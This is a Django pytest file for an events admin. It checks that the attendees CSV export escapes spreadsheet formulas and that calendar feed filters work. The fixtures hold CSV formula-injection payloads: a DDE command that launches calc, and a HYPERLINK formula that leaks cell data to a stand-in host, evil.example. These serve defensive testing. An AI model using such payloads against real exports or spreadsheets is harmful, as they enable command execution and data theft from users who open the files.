"""The events admin: the attendees CSV cannot carry spreadsheet formulas; calendar feeds
can be filtered."""

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from django.utils import timezone

from tests.factories import MemberFactory, OrganisationFactory

from .factories import BookingFactory, CalendarFeedFactory, EventFactory

pytestmark = pytest.mark.django_db


def test_attendees_csv_neutralises_formulas(client, manager, provider):
    event = EventFactory(organiser=provider, title="=cmd|' /C calc'!A0")
    member = MemberFactory(
        full_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        profile__organisation=OrganisationFactory(name="+Barts Health NHS Trust"),
        profile__job_title="@Head of People",
    )
    BookingFactory(event=event, member=member)
    BookingFactory(event=event, member=MemberFactory(full_name="Ada Okafor"))
    client.force_login(manager)
    response = client.post(
        "/admin/events/event/", {"action": "export_attendees", "_selected_action": [event.pk]}
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["event", "starts", "name"]
    by_name = {row[2]: row for row in rows[1:]}
    evil = by_name["'" + member.full_name]
    assert evil[0] == "'=cmd|' /C calc'!A0"
    assert evil[4] == "'+Barts Health NHS Trust" and evil[5] == "'@Head of People"
    assert by_name["Ada Okafor"][2] == "Ada Okafor"  # ordinary text untouched
    # No cell anywhere starts with a formula character.
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r"]


def test_calendar_feed_admin_filters(admin_client):
    with time_machine.travel(timezone.now() - timedelta(days=60)):
        old = CalendarFeedFactory()
    never_reset = CalendarFeedFactory()
    reset = CalendarFeedFactory(reset_at=timezone.now())
    inactive = CalendarFeedFactory(user__is_active=False)
    url = "/admin/events/calendarfeed/"

    def listed(**params):
        response = admin_client.get(url, params)
        assert response.status_code == 200
        return set(response.context["cl"].result_list)

    assert listed() == {old, never_reset, reset, inactive}
    assert listed(reset_at__isnull="False") == {reset}
    assert listed(reset_at__isnull="True") == {old, never_reset, inactive}
    assert listed(user__is_active__exact="0") == {inactive}
    week_ago = (timezone.now() - timedelta(days=7)).isoformat()
    assert old not in listed(created_at__gte=week_ago)
    page = admin_client.get(url).content.decode()
    assert "By reset at" in page and "By created at" in page
